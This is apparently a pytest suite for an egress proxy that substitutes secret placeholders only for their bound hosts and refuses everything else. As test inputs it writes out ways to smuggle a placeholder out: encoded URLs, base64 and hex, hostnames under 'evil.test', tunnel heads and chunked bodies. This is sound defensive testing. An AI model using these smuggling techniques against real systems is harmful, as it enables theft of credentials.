"""A placeholder becomes its secret on the way to its hosts. Sent elsewhere it is an attempt, and does not go out."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
import pytest_asyncio

from tests.egress import nets
from tests.egress.inside import BOUND, HOST, PLACEHOLDER, RULE, SECRET, request
from tests.egress.servers import ok

if TYPE_CHECKING:
    from tests.egress.inside import Alice
    from tests.egress.place import Client
    from tests.internet.certificates import Authority

OTHER = {"secret": "other", "value": "sbxph_0000111122223333", "hosts": ["pypi.allowed.test"], "slots": ["header"]}


@pytest_asyncio.fixture
async def bound(alice: Alice) -> Alice:
    """Alice with a placeholder for one host, and another one for another."""
    alice.plane.answer["set"] = []
    await alice.put(rules=[], placeholders=[BOUND, OTHER])
    return alice


async def attempt(alice: Alice, client: Client, place: str, secret: str = "key") -> None:  # noqa: S107 - a name
    """Check that a request was refused, and is recorded twice over: as a refusal, and as what it was."""
    assert await client.refusal() == (403, "secret_elsewhere")
    told = (await alice.place.node.event(code="secret.exfil_attempt"))["details"]
    assert (told["secret_name"], told["place"]) == (secret, place)
    assert (await alice.place.node.event(code="egress.denied"))["reason"] == "secret_elsewhere"


def basic(text: str) -> str:
    """Return Basic credentials."""
    return f"Authorization: Basic {base64.b64encode(text.encode()).decode()}"


@pytest.mark.parametrize(
    ("sent", "got"),
    [
        (f"Authorization: Bearer {PLACEHOLDER}", f"Authorization: Bearer {SECRET}"),
        (f"X-Api-Key: {PLACEHOLDER}", f"X-Api-Key: {SECRET}"),
        (f"Cookie: a=b; key={PLACEHOLDER}; c=d", f"Cookie: a=b; key={SECRET}; c=d"),
        (basic(f"user:{PLACEHOLDER}"), basic(f"user:{SECRET}")),
        (basic(f"{PLACEHOLDER}:"), basic(f"{SECRET}:")),
        (basic(f"x:{PLACEHOLDER}").replace("Basic", "bAsIc"), basic(f"x:{SECRET}").replace("Basic", "bAsIc")),
    ],
    ids=["bearer", "key", "cookie", "password", "user", "odd case"],
)
async def test_becomes_the_secret(bound: Alice, hosts: Authority, sent: str, got: str) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context(HOST))
    assert await (await bound.ask("GET /", sent)).answer() == (200, b"ok")
    assert f"\r\n{got}\r\n".encode() in server.received
    assert PLACEHOLDER.encode() not in server.received
    assert [(said["host"], said["rule_host"]) for _, said in bound.plane.asked] == [(HOST, None)]


async def test_beside_a_rule_both_count(bound: Alice, hosts: Authority) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context(HOST))
    bound.plane.answer["set"] = [["X-Team", "acme"]]
    await bound.put(rules=[{**RULE, "set": {"X-Team": "acme"}}], placeholders=[BOUND])
    assert await (await bound.ask("GET /", f"X-Key: {PLACEHOLDER}")).answer() == (200, b"ok")
    assert f"X-Key: {SECRET}\r\nX-Team: acme\r\n".encode() in server.received


async def test_a_request_without_one_asks_nobody(bound: Alice, hosts: Authority) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context(HOST))
    assert await (await bound.ask("GET /", "Authorization: Bearer own")).answer() == (200, b"ok")
    assert b"Authorization: Bearer own" in server.received
    assert bound.plane.asked == []


async def test_only_in_its_slots(bound: Alice, hosts: Authority) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context(HOST))
    await bound.put(rules=[], placeholders=[{**BOUND, "slots": ["basic"]}])
    line = f"GET /?key={PLACEHOLDER}"
    assert await (await bound.ask(line, f"X-Key: {PLACEHOLDER}", basic(f"u:{PLACEHOLDER}"))).answer() == (200, b"ok")
    # To its own host it goes as the useless text that it is.
    assert f"{line} HTTP/1.1\r\n".encode() in server.received
    assert f"X-Key: {PLACEHOLDER}\r\n{basic(f'u:{SECRET}')}".encode() in server.received


@pytest.mark.parametrize(
    "carrier",
    [
        f"X-Key: {PLACEHOLDER}",
        basic(f"u:{PLACEHOLDER}"),
        basic(f"us:{PLACEHOLDER}"),
        basic(f"user:{PLACEHOLDER}"),
        f"X-Hex: {PLACEHOLDER.encode().hex()}",
        f"X-{PLACEHOLDER}: 1",
        f"Proxy-Authorization: Bearer {PLACEHOLDER}",
        f"Connection: {PLACEHOLDER}",
    ],
)
async def test_to_another_bound_host_it_does_not_go(bound: Alice, hosts: Authority, carrier: str) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context("pypi.allowed.test"))
    await attempt(bound, await bound.ask("GET /", carrier, host="pypi.allowed.test"), "head")
    assert (server.connections, bound.plane.asked) == (0, [])


async def test_another_ones_to_this_host_neither(bound: Alice, hosts: Authority) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context(HOST))
    keys = (f"X-Key: {PLACEHOLDER}", f"X-Other: {OTHER['value']}")
    await attempt(bound, await bound.ask("GET /", *keys), "head", "other")
    assert (server.connections, bound.plane.asked) == (0, [])


@pytest.mark.parametrize(
    "path",
    [
        f"/{PLACEHOLDER}",
        f"/?k={PLACEHOLDER}&x=1",
        f"/?k={quote(PLACEHOLDER.replace('_', '%5F'), safe='%')}",
        f"/?k={''.join(f'%{byte:02x}' for byte in PLACEHOLDER.encode())}",
        f"/{base64.urlsafe_b64encode(b'x' + PLACEHOLDER.encode()).decode()}",
    ],
    ids=["path", "query", "underscore escaped", "all escaped", "base64"],
)
async def test_in_a_url_in_the_clear(bound: Alice, path: str) -> None:
    server = await bound.place.server(nets.API, 80, ok)
    url = f"GET http://plain.allowed.test{path} HTTP/1.1\r\nHost: plain.allowed.test\r\n\r\n"
    await attempt(bound, await bound.place.alice.ask(url.encode()), "head")
    assert server.connections == 0


@pytest.mark.parametrize("name", [f"{PLACEHOLDER}.evil.test", f"{PLACEHOLDER.upper()}.EVIL.test"])
async def test_in_the_name_of_a_host(bound: Alice, name: str) -> None:
    client = await bound.place.alice.ask(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode())
    await attempt(bound, client, "head")
    client = await bound.place.alice.ask(f"GET /v1/names/{name} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    assert await client.refusal() == (403, "secret_elsewhere")
    assert bound.place.names.asked == []


async def test_in_the_head_of_a_tunnel(bound: Alice, hosts: Authority) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context(HOST))
    lines = f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\nX-Key: {PLACEHOLDER}\r\n\r\n"
    await attempt(bound, await bound.place.alice.ask(lines.encode()), "head")
    assert server.connections == 0


@pytest.mark.parametrize("host", ["pypi.allowed.test", "plain.allowed.test"])
@pytest.mark.parametrize("pieces", [1, 2, 16])
async def test_in_a_body_wherever_it_is_cut(bound: Alice, hosts: Authority, host: str, pieces: int) -> None:
    secure = host != "plain.allowed.test"
    server = await bound.place.server(nets.API, 443 if secure else 80, ok, hosts.context(host) if secure else None)
    head = request("POST /" if secure else f"POST http://{host}/", "Transfer-Encoding: chunked", host=host)
    client = await (bound.https(host) if secure else bound.place.alice.connect())
    client.send(head)
    body = b'{"note": "' + PLACEHOLDER.encode() + b'"}'
    step = -(-len(body) // pieces)
    for at in range(0, len(body), step):
        piece = body[at : at + step]
        client.send(b"%x\r\n%b\r\n" % (len(piece), piece))
    client.send(b"0\r\n\r\n")
    await attempt(bound, client, "body")
    assert PLACEHOLDER[:12].encode() not in server.received


async def test_of_a_long_body_the_beginning_is_searched(bound: Alice, hosts: Authority) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context("pypi.allowed.test"))
    body = b"x" * 256 * 1024 + PLACEHOLDER.encode()
    assert await (await bound.ask("POST /", host="pypi.allowed.test", body=body)).answer() == (200, b"ok")
    assert server.received.endswith(body)


async def test_a_body_that_only_looks_like_it_goes_on_whole(bound: Alice, hosts: Authority) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context("pypi.allowed.test"))
    body = b"a" * 500 + PLACEHOLDER[:-1].encode()
    assert await (await bound.ask("POST /", host="pypi.allowed.test", body=body)).answer() == (200, b"ok")
    assert server.received.endswith(body)


@pytest.mark.parametrize("line", ["GET /v1/chat", "POST /v2/chat", "POST /v1/../chat"])
async def test_where_the_hosts_rule_does_not_fit_it_is_elsewhere(bound: Alice, hosts: Authority, line: str) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context(HOST))
    await bound.put(rules=[{**RULE, "methods": ["POST"], "paths": ["/v1/*"]}], placeholders=[BOUND])
    await attempt(bound, await bound.ask(line, f"X-Key: {PLACEHOLDER}"), "head")
    assert (server.connections, bound.plane.asked) == (0, [])


async def test_one_that_the_control_plane_does_not_know_goes_nowhere(bound: Alice, hosts: Authority) -> None:
    server = await bound.place.server(nets.API, 443, ok, hosts.context(HOST))
    bound.plane.answer["swap"] = []
    assert await (await bound.ask("GET /", f"X-Key: {PLACEHOLDER}")).refusal() == (503, "secrets_unavailable")
    assert server.connections == 0
